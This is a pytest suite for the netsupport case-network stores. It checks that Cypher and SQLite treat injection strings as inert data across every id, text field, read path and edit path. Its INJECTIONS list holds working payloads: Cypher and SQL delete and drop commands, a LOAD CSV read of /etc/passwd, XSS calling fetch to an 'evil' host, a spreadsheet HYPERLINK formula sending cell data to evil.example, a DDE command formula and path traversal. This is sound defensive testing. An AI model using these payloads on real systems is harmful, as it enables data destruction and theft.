"""Injection strings are data, never code: in every text field, in every id, through every
read and write path, on both stores.

Cypher and SQL only ever receive data as parameters (storage/cypher.py, sqlite_store.py); this
suite proves it from the outside. Each string goes in as a household id, a ward, a person's
id and display name, an agency's id and name, and an event note; then the store
is read back whole, household by household, by ward, and edited through ``apply``. If any
string were executed, data would go missing, appear, or fail to round-trip. The count of
strings is reported in docs/TRUST.md.
"""

from __future__ import annotations

from datetime import date

import pytest

from netsupport.model import (
    Agency,
    AgencyKind,
    Bundle,
    Event,
    EventType,
    Household,
    Person,
    Relation,
    Role,
    Strength,
    Tie,
    TieKind,
)
from netsupport.storage import ChangeSet

#: Cypher, SQL, HTML/JS, CSV-formula, path and encoding tricks; each is used as data.
INJECTIONS: tuple[str, ...] = (
    # Cypher
    "MATCH (n) DETACH DELETE n",
    "x'}) MATCH (n) DETACH DELETE n //",
    "x\"}) MATCH (n) DETACH DELETE n //",
    "') RETURN 1 UNION MATCH (n) RETURN n //",
    "$id",
    "{`id`: 1}",
    "`backtick` `",
    "CALL dbms.security.createUser('x','y',false)",
    "CALL db.clearQueryCaches()",
    "LOAD CSV FROM 'file:///etc/passwd' AS l RETURN l",
    "x\\' OR 1=1 //",
    "/* comment */ RETURN 1",
    "MERGE (m:Meta {name:'netsupport'}) SET m.data_version = -1",
    # SQL
    "' OR '1'='1",
    "'; DROP TABLE ties; --",
    "\"; DROP TABLE households; --",
    "1; DELETE FROM people",
    "x') ; ATTACH DATABASE '/tmp/evil.db' AS e; --",
    "%' --",
    "_",
    "%",
    "'||(SELECT sqlite_version())||'",
    # HTML / JS
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\"><svg onload=alert(1)>",
    "javascript:alert(1)",
    "</textarea><script>fetch('//evil')</script>",
    "{{7*7}}",
    "${7*7}",
    # spreadsheet formulas
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    # paths, control and odd characters
    "../../../../etc/passwd",
    "C:\\Windows\\System32",
    "line\nbreak",
    "𠮷野家",
    "ﾎﾝﾆﾝ（半角）",
    "Ω≈ç√∫ ÅÍÎÏ˝",
)

#: Strings the validator refuses outright (control characters, padding): a load carrying
#: them is refused with located errors and writes nothing.
REFUSED: tuple[str, ...] = ("\t=1+1", "nul\x00byte", " ", "x\x1b[2J", "=1+1 ",
                            # a right-to-left override and an invisible BOM in a name
                            "本人\u202e.exe", "北\ufeff区")


def hostile_bundle() -> Bundle:
    """One household per string, the string in every text field and id it can take."""
    agencies, households, people, ties, events = [], [], [], [], []
    for i, s in enumerate(INJECTIONS):
        hid, pid, aid = f"H{i}:{s}", f"P{i}:{s}", f"A{i}:{s}"
        agencies.append(Agency(aid, s, AgencyKind.WELFARE_OFFICE, s))
        households.append(Household(hid, s))
        people.append(Person(pid, Relation.SUBJECT, hid, s, 1975))
        ties.append(Tie(aid, hid, TieKind.SUPPORT, Strength.NORMAL, Role.LEAD,
                        date(2025, 1, 1)))
        events.append(Event(f"E{i}:{s}", hid, date(2026, 1, 1), EventType.NOTE, aid, note=s))
    return Bundle(agencies=agencies, households=households, people=people, ties=ties,
                  events=events)


def test_the_list_is_long_enough_to_mean_something():
    assert len(INJECTIONS) >= 38
    assert len(set(INJECTIONS)) == len(INJECTIONS)


def test_injection_strings_round_trip_through_every_read(store):
    bundle = hostile_bundle()
    store.load(bundle)
    assert store.export().sorted() == bundle.sorted()
    for i, s in enumerate(INJECTIONS):
        hid = f"H{i}:{s}"
        net = store.household_network(hid)
        assert [h.household_id for h in net.households] == [hid]
        assert [p.display_name for p in net.people] == [s]
        assert [a.name for a in net.agencies] == [s]
        assert [e.note for e in net.events] == [s]
        assert store.household_ids(s) == [hid]  # the ward as a filter parameter
        assert [h.household_id for h in store.city_network(s).households] == [hid]
    assert len(store.household_ids()) == len(INJECTIONS)
    assert len(store.agency_ties().agencies) == len(INJECTIONS)


def test_injection_strings_through_edits(store):
    bundle = hostile_bundle()
    store.load(bundle)
    version = store.data_version()
    for i, s in enumerate(INJECTIONS):
        tie = bundle.ties[i]
        version = store.apply(ChangeSet(
            update_ties=[(tie.key, Tie(tie.source_id, tie.target_id, tie.kind, tie.strength,
                                       tie.role, tie.since, last_contact=date(2026, 11, 1),
                                       consent=True))],
            add_events=[Event(f"X{i}:{s}", f"H{i}:{s}", date(2026, 11, 1), EventType.CONTACT,
                              f"A{i}:{s}", note=s)],
            expected_version=version))
    after = store.export()
    assert len(after.households) == len(after.people) == len(INJECTIONS)
    assert len(after.ties) == len(INJECTIONS)
    assert len(after.events) == 2 * len(INJECTIONS)
    assert all(t.consent and t.last_contact == date(2026, 11, 1) for t in after.ties)
    assert sorted(e.note for e in after.events) == sorted(INJECTIONS * 2)


@pytest.mark.parametrize("probe", [s for s in INJECTIONS if s.strip()][:12])
def test_unknown_ids_that_look_like_code_are_just_unknown(store, probe):
    from netsupport.errors import NotFoundError

    store.load(hostile_bundle())
    before = store.export().counts()
    with pytest.raises(NotFoundError):
        store.household_network(probe)
    assert store.household_ids(probe) == [] or probe in {h for h in INJECTIONS}
    assert store.export().counts() == before


@pytest.mark.parametrize("bad", REFUSED)
def test_refused_strings_are_located_and_write_nothing(store, bad):
    from netsupport.errors import BundleError

    store.load(hostile_bundle())
    before = store.export().sorted()
    bundle = hostile_bundle()
    bundle.people.append(Person("P-bad", Relation.SUBJECT, "H0:" + INJECTIONS[0], bad))
    with pytest.raises(BundleError) as err:
        store.load(bundle, replace=True)
    assert any(p.file.startswith("people") and p.column == "display_name"
               for p in err.value.problems)
    assert store.export().sorted() == before
